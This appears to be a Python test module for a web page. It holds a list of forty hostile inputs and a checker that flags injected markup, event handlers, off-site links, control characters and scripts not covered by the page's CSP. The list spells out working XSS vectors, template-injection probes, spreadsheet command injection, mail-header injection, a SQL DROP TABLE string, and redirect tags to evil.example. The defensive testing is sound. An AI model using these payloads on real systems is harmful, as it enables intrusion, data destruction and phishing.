"""What do attackers type where a name is asked for? Forty texts, and what tells that one of them got through a page."""

from __future__ import annotations

import base64
import hashlib
import re
from html.parser import HTMLParser

PAYLOADS = (
    # markup that runs
    "<script>alert(1)</script>",
    "</textarea><script>alert(2)</script>",
    "</title><script>alert(3)</script>",
    "</style><script>alert(4)</script>",
    '"><script>alert(5)</script>',
    "'><img src=x onerror=alert(6)>",
    '" autofocus onfocus="alert(7)',
    "' onmouseover='alert(8)",
    "` onload=alert(9) `",
    "<svg/onload=alert(10)>",
    "<svg><script>alert&#40;11)</script></svg>",
    "<iframe srcdoc='<script>alert(12)</script>'></iframe>",
    "<details open ontoggle=alert(13)>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(14)>",
    "<body onpageshow=alert(15)>",
    "<a href=javascript:alert(16)>press</a>",
    "javascript:alert(17)",
    "data:text/html,<script>alert(18)</script>",
    "&lt;script&gt;alert(19)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(20)\uff1c/script\uff1e",
    "<!--><script>alert(21)</script>-->",
    "<![CDATA[<script>alert(22)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(23)>'>",
    # markup that leads away, or looks like ours
    "<form action=https://evil.example><input name=email>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src=https://evil.example/seen.png>",
    # templates and letters
    "{{ 7*7 }}{% for x in range(9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} %(organisation)s %n%s",
    "[Press here](https://evil.example)",
    # terminals, spreadsheets, mail headers, right to left, broken text
    "\x1b]0;owned\x07\x1b[2J",
    "\x9b31mred",
    '=HYPERLINK("https://evil.example","press")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "Anna\r\nBcc: everybody@people.example",
    "\u202egnp.exe\u2066 \u200b\ufeff",
    "a" * 90 + "\x00'; DROP TABLE supporters; --",
)
_ELEMENTS = """\
a article aside b body br button code col dd details div dl dt em fieldset footer form h1 h2 h3 h4 head header hr html
input label legend li main meta nav ol optgroup option p script section select small span strong style summary table
tbody td template textarea th thead time title tr ul"""
_OURS = frozenset(_ELEMENTS.split())
_ADDRESSES = frozenset({"href", "action", "src"})
_OWN = re.compile(r"(?:https?|mailto|tel):|/(?!/)|[?#]|[A-Za-z0-9_.-]*(?:/|$)")
_BARRED = frozenset({"style", "srcdoc", "formaction", "background", "ping", "http-equiv", "autofocus"})


def intruders(page: str, policy: str = "") -> list[str]:
    """Return what a page of ours never holds.

    That are foreign elements, attributes that run, addresses of other kinds, control characters, and scripts whose
    digests the page's Content-Security-Policy does not name.
    """
    found = _Intruders(policy)
    found.feed(page)
    found.close()
    control = [f"U+{ord(each):04X}" for each in page if _is_control(each)]
    return found.amiss + control


def _is_control(character: str) -> bool:
    """Tell whether a character does something to a terminal."""
    code = ord(character)
    return (code < 32 and character not in "\n\t") or 127 <= code < 160


class _Intruders(HTMLParser):
    """Collects what is amiss in a page."""

    def __init__(self, policy: str) -> None:
        super().__init__(convert_charrefs=True)
        self.amiss: list[str] = []
        self._policy = policy
        self._element = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at an element and its attributes."""
        self._element = tag
        if tag not in _OURS:
            self.amiss.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in _BARRED:
                self.amiss.append(f"{tag} {name}={value!r}")
            if name in _ADDRESSES and (not _OWN.match(value or "") or "evil" in (value or "").partition("?")[0]):
                self.amiss.append(f"{tag} {name}={value!r}")

    def handle_endtag(self, tag: str) -> None:
        """Leave an element."""
        self._element = ""

    def handle_data(self, data: str) -> None:
        """Look at the words of a script."""
        if self._element != "script":
            return
        digest = base64.b64encode(hashlib.sha256(data.encode()).digest()).decode()
        if f"'sha256-{digest}'" not in self._policy:
            self.amiss.append(f"script: {data[:60]!r}")
